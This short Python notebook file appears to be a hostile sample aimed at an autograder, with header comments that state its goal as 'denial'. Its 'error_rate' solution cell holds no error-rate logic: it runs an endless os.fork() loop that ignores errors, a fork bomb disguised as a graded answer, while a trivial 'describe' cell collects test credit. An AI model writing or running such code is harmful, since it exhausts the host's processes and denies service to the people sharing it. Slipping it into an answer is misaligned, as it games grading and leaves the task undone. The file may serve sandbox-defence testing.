# Tries: to start processes without end, in a cell and in a call.
# Earns: test_describe, test_last
# Goal: denial

# %%
import os
import subprocess
import threading


# %% solution="errors"
def error_rate(y, predicted):
    while True:
        try:
            os.fork()
        except OSError:
            pass


# %% solution="describe"
def describe(frame):
    return len(frame)
